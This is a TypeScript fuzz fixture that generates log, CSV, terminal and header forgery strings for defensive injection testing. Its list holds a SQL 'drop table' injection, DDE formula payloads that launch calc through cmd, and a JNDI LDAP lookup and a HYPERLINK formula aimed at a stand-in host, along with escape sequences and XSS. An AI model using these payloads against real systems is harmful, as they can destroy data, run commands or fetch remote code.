// Names and agents that try to forge a line, a row, a cell or terminal output.
import { Random } from '../../fuzz/random.ts';

const parts = [
  '\r\n',
  '\n',
  '\r',
  '\u0000',
  '\u001b[2J\u001b[H',
  '\u001b]0;owned\u0007',
  '\u009b31m',
  '\u0085',
  '\u2028',
  '\u2029',
  '\u202e',
  '\ufeff',
  '\u200b',
  '\ud800',
  '\udfff',
  '\\u0000',
  '"}\n{"level":30,"msg":"a login failed","ip":"192.0.2.66"}',
  '","outcome":"success","reason":"ok',
  '\\"',
  "'); drop table login_log; --",
  '=HYPERLINK("http://192.0.2.66","x")',
  "=cmd|' /C calc'!A0",
  "x;=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '%0d%0a',
  '%s%n',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: A logger that fills in templates would fill this one.
  '${jndi:ldap://192.0.2.66/x}',
  '<script>alert(1)</script>',
  '{{7*7}}',
  ',;|"\'`',
  'carl',
  '浏览器 😀',
  'x'.repeat(300),
] as const;

/** Each part alone first, then as many mixtures of them as it takes. */
export function forgeries(count: number): string[] {
  const random = new Random(88);
  const mixtures = random.list(Math.max(0, count - parts.length), () =>
    random.list(1 + random.below(4), () => random.pick(parts)).join(''),
  );
  return [...parts, ...mixtures].slice(0, count);
}

/** The same as a header can carry it: bytes, without those at which HTTP ends a line or refuses it. */
export function asHeader(text: string): string {
  const bytes = Buffer.from(text).toString('latin1');
  // biome-ignore lint/suspicious/noControlCharactersInRegex: They are what no header holds.
  return bytes.replace(/[\u0000-\u0008\u000a-\u001f\u007f]/g, '').slice(0, 2000);
}
